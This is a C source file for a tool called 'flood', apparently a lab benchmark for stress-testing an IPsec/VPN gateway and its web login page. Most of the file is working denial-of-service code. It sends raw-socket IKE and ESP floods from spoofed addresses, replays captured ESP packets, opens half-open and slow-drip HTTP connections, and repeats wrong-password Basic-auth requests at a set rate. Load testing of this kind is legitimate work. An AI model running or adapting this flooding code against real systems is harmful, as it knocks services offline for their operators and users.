/*
 * Attacks a gateway from this namespace, as fast as it is told to, and says what it sent:
 *   flood first TO PORT RATE SECONDS HEX       IKE messages as in HEX, each with an initiator cookie of its own, from spoofed addresses
 *   flood cookies TO PORT RATE SECONDS HEX     the same with a responder cookie of its own, too: of no IKE SA
 *   flood spi TO PORT RATE SECONDS             ESP in UDP (port 0: without) with random SPIs, from spoofed addresses
 *   flood replay INTERFACE PORT RATE SECONDS [TO]   the first ESP packet that leaves by the interface, again and again, to where it went or elsewhere
 *   flood half-open TO PORT RATE SECONDS       TCP connections that begin a request and leave it at that, at most 256 at once
 *   flood password TO PORT RATE SECONDS        requests with a wrong password each, each on a connection of its own
 *   flood kept TO PORT RATE SECONDS            the same, four in one write, on 16 connections that are kept as long as they are served
 *   flood drip TO PORT RATE SECONDS            requests that come a byte at a time on such connections, and never to their end
 *   flood sink ADDRESS PORT 0 SECONDS          receives datagrams and connections, and does nothing with them
 * Root, for raw sockets. The last line is "PACKETS BYTES SECONDS-OF-PROCESSOR".
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define kBatch 64
#define kSize 2048

static uint8_t rows[kBatch][kSize];
static struct iovec vectors[kBatch];
static struct mmsghdr messages[kBatch];
static uint64_t state = 88172645463325252u;

static uint32_t chance(void)
{
	state ^= state << 13;
	state ^= state >> 7;
	state ^= state << 17;
	return (uint32_t)(state >> 16);
}

static double now(void)
{
	struct timespec time;
	clock_gettime(CLOCK_MONOTONIC, &time);
	return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static size_t from_hex(const char* text, uint8_t* bytes)
{
	size_t size = 0;
	unsigned value;
	for (; sscanf(text + 2 * size, "%2x", &value) == 1 && size < kSize - 64; size++)
		bytes[size] = (uint8_t)value;
	return size;
}

/* The first ESP packet that leaves, UDP included when `port` is not 0: its size, with its IP header. */
static size_t capture(const char* interface, int port, uint8_t* bytes)
{
	int descriptor = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_ALL));
	struct sockaddr_ll own = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL), .sll_ifindex = (int)if_nametoindex(interface) };
	if (descriptor < 0 || bind(descriptor, (struct sockaddr*)&own, sizeof own) < 0)
		return 0;
	for (double end = now() + 20; now() < end;) {
		struct sockaddr_ll from;
		socklen_t length = sizeof from;
		ssize_t got = recvfrom(descriptor, bytes, kSize, 0, (struct sockaddr*)&from, &length);
		if (got < 60 || got > 1500 || from.sll_pkttype != PACKET_OUTGOING || bytes[0] != 0x45)
			continue;
		uint32_t marker;
		memcpy(&marker, bytes + 28, sizeof marker);
		if (port ? bytes[9] == 17 && bytes[22] == (uint8_t)(port >> 8) && bytes[23] == (uint8_t)port && marker != 0 : bytes[9] == 50)
			return (size_t)got;
	}
	return 0;
}

static int tell(uint64_t packets, uint64_t bytes)
{
	struct rusage used;
	getrusage(RUSAGE_SELF, &used);
	printf("%llu %llu %.3f\n", (unsigned long long)packets, (unsigned long long)bytes,
		(double)(used.ru_utime.tv_sec + used.ru_stime.tv_sec) + (double)(used.ru_utime.tv_usec + used.ru_stime.tv_usec) / 1e6);
	return 0;
}

/* Connections that are kept by either side, and how many of them are opened anew in a second when they are closed. */
#define kKept 16
#define kAnew 2000

/* More was done than is due by now: waits a little then. */
static int is_early(uint64_t done, double due)
{
	if ((double)done <= due)
		return 0;
	usleep(500);
	return 1;
}

/* What a gateway's sockets cost by themselves: who connects is heard, until 16 others have come. */
static int sink(const struct sockaddr_in* at, double seconds)
{
	int on = 1, udp = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0), tcp = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), buffer = 1 << 20;
	uint64_t packets = 0, bytes = 0;
	unsigned next = 0;
	struct pollfd ready[2 + kKept] = { { .fd = udp, .events = POLLIN }, { .fd = tcp, .events = POLLIN } };
	setsockopt(tcp, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
	setsockopt(udp, SOL_SOCKET, SO_RCVBUFFORCE, &buffer, sizeof buffer);
	if (bind(udp, (const struct sockaddr*)at, sizeof *at) < 0 || bind(tcp, (const struct sockaddr*)at, sizeof *at) < 0 || listen(tcp, 64) < 0) {
		perror("sink");
		return 1;
	}
	for (int i = 0; i < kBatch; i++) {
		vectors[i] = (struct iovec){ .iov_base = rows[i], .iov_len = kSize };
		messages[i].msg_hdr = (struct msghdr){ .msg_iov = &vectors[i], .msg_iovlen = 1 };
	}
	for (int i = 0; i < kKept; i++)
		ready[2 + i] = (struct pollfd){ .fd = -1, .events = POLLIN };
	for (double end = now() + seconds; now() < end;) {
		poll(ready, 2 + kKept, 100);
		int got = recvmmsg(udp, messages, kBatch, MSG_DONTWAIT, NULL);
		for (int i = 0; i < got; i++)
			bytes += messages[i].msg_len;
		packets += got > 0 ? (uint64_t)got : 0;
		for (int one; (one = accept4(tcp, NULL, NULL, SOCK_NONBLOCK)) >= 0; packets++) {
			struct pollfd* place = &ready[2 + next++ % kKept];
			if (place->fd >= 0)
				close(place->fd);
			*place = (struct pollfd){ .fd = one, .events = POLLIN, .revents = POLLIN };
		}
		for (struct pollfd* each = ready + 2; each < ready + 2 + kKept; each++) {
			if (each->fd < 0 || each->revents == 0)
				continue;
			ssize_t size = recv(each->fd, rows[0], kSize, MSG_DONTWAIT);
			bytes += size > 0 ? (uint64_t)size : 0;
			if (size == 0 || (size < 0 && errno != EAGAIN)) {
				close(each->fd);
				each->fd = -1;
			}
		}
	}
	return tell(packets, bytes);
}

/* A connection to the page; it may still be opening. */
static int connected(const struct sockaddr_in* to)
{
	int descriptor = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), on = 1;
	setsockopt(descriptor, IPPROTO_TCP, TCP_NODELAY, &on, sizeof on);
	if (connect(descriptor, (const struct sockaddr*)to, sizeof *to) < 0 && errno != EINPROGRESS) {
		close(descriptor);
		return -1;
	}
	return descriptor;
}

static const char half[] = "GET /status HTTP/1.1\r\nHost: gate\r\nX-";

/* Base64 of what nobody has as a password, another one each time. */
static size_t wrong(char* request, size_t size, int isLast)
{
	return (size_t)snprintf(request, size, "GET /status HTTP/1.1\r\nHost: gate\r\nAuthorization: Basic YWRtaW46%08x\r\n%s\r\n", chance(), isLast ? "Connection: close\r\n" : "");
}

/* Connections to a page, each with one request. */
static int connections(const struct sockaddr_in* to, double rate, double seconds, int isPassword)
{
	static int open[256];
	char request[256];
	uint64_t count = 0, bytes = 0;
	double begin = now();
	memset(open, -1, sizeof open);
	for (double at; (at = now() - begin) < seconds;) {
		if (is_early(count, at * rate))
			continue;
		int* each = &open[count++ % (isPassword ? kKept : 256)];
		if (*each >= 0)
			close(*each);
		if ((*each = connected(to)) < 0)
			continue;
		size_t size = isPassword ? wrong(request, sizeof request, 1) : strlen(half);
		ssize_t put = send(*each, isPassword ? request : half, size, MSG_NOSIGNAL | MSG_DONTWAIT);
		bytes += put > 0 ? (uint64_t)put : 0;
	}
	return tell(count, bytes);
}

/* Requests, or bytes of requests, on connections that are opened anew only when they have been closed. */
static int kept(const struct sockaddr_in* to, double rate, double seconds, int isDrip)
{
	static struct { int descriptor; unsigned at; } open[kKept];
	char request[1024], answer[4096];
	uint64_t count = 0, bytes = 0, opened = 0;
	double begin = now();
	memset(open, -1, sizeof open);
	for (double at; (at = now() - begin) < seconds;) {
		if (is_early(count, at * rate))
			continue;
		unsigned place = (unsigned)(count / (isDrip ? 1 : 4) % kKept);
		ssize_t put, got;
		size_t size = 1;
		if (open[place].descriptor < 0) {
			if (is_early(opened, kKept + at * kAnew))
				continue;
			opened++;
			open[place].descriptor = connected(to);
			open[place].at = 0;
		}
		while ((got = recv(open[place].descriptor, answer, sizeof answer, MSG_DONTWAIT)) > 0)
			;
		if (isDrip)
			request[0] = open[place].at < sizeof half - 1 ? half[open[place].at] : 'x';
		else
			for (int i = size = 0; i < 4; i++)
				size += wrong(request + size, sizeof request - size, 0);
		put = send(open[place].descriptor, request, size, MSG_NOSIGNAL | MSG_DONTWAIT);
		open[place].at++;
		if (got == 0 || (put < 0 && errno != EAGAIN)) {
			close(open[place].descriptor);
			open[place].descriptor = -1;
		}
		count += isDrip ? 1 : 4;
		bytes += put > 0 ? (uint64_t)put : 0;
	}
	return tell(count, bytes);
}

int main(int argc, char** argv)
{
	if (argc < 6)
		return 2;
	const char* kind = argv[1];
	int port = atoi(argv[3]), isReplay = strcmp(kind, "replay") == 0, isSPI = strcmp(kind, "spi") == 0;
	double rate = atof(argv[4]), seconds = atof(argv[5]);
	size_t header = sizeof(struct iphdr) + (port ? sizeof(struct udphdr) : 0), size;
	int on = 1, buffer = 4 << 20;
	memset(rows, 0, sizeof rows);
	int isSink = strcmp(kind, "sink") == 0, isPassword = strcmp(kind, "password") == 0, isDrip = strcmp(kind, "drip") == 0;
	if (isSink || isPassword || isDrip || strcmp(kind, "half-open") == 0 || strcmp(kind, "kept") == 0) {
		struct sockaddr_in other = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
		inet_pton(AF_INET, argv[2], &other.sin_addr);
		return isSink ? sink(&other, seconds) : isDrip || kind[0] == 'k' ? kept(&other, rate, seconds, isDrip) : connections(&other, rate, seconds, isPassword);
	}
	if (isReplay)
		size = capture(argv[2], port, rows[0]);
	else if (isSPI)
		size = header + 120;
	else
		size = header + (port == 4500 ? 4 : 0) + from_hex(argc > 6 ? argv[6] : "", rows[0] + header + (port == 4500 ? 4 : 0));
	if (size <= header + 8) {
		fprintf(stderr, "flood: nothing to send\n");
		return 1;
	}
	struct sockaddr_in to = { .sin_family = AF_INET };
	if (isReplay && argc > 6)
		inet_pton(AF_INET, argv[6], rows[0] + 16);
	if (isReplay)
		memcpy(&to.sin_addr, rows[0] + 16, 4);
	else
		inet_pton(AF_INET, argv[2], &to.sin_addr);
	int descriptor = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (descriptor < 0 || setsockopt(descriptor, IPPROTO_IP, IP_HDRINCL, &on, sizeof on) < 0) {
		perror("flood");
		return 1;
	}
	setsockopt(descriptor, SOL_SOCKET, SO_SNDBUFFORCE, &buffer, sizeof buffer);
	if (!isReplay) {
		struct iphdr ip = { .version = 4, .ihl = 5, .ttl = 64, .protocol = port ? 17 : 50, .tot_len = htons((uint16_t)size), .daddr = to.sin_addr.s_addr };
		struct udphdr udp = { .source = htons(500), .dest = htons((uint16_t)port), .len = htons((uint16_t)(size - sizeof ip)) };
		memcpy(rows[0], &ip, sizeof ip);
		if (port)
			memcpy(rows[0] + sizeof ip, &udp, sizeof udp);
	}
	for (int i = 0; i < kBatch; i++) {
		memcpy(rows[i], rows[0], size);
		vectors[i] = (struct iovec){ .iov_base = rows[i], .iov_len = size };
		messages[i].msg_hdr = (struct msghdr){ .msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &vectors[i], .msg_iovlen = 1 };
	}
	uint8_t isCookies = strcmp(kind, "cookies") == 0, where = (uint8_t)(header + (port == 4500 ? 4 : 0));
	uint64_t sent = 0;
	double begin = now();
	for (double at; (at = now() - begin) < seconds;) {
		if (is_early(sent, at * rate))
			continue;
		for (int i = 0; i < kBatch && !isReplay; i++) {
			/* 198.18.0.0/15, and any port: addresses for benches (RFC 2544). */
			uint32_t source = htonl(0xc6120000u | (chance() & 0x1ffff)), words[4] = { chance(), chance(), chance(), chance() };
			memcpy(rows[i] + 12, &source, sizeof source);
			if (isSPI)
				memcpy(rows[i] + header, words, 8);
			else
				memcpy(rows[i] + where, words, isCookies ? 16 : 8);
		}
		int done = sendmmsg(descriptor, messages, kBatch, 0);
		sent += done > 0 ? (uint64_t)done : 0;
	}
	return tell(sent, sent * size);
}
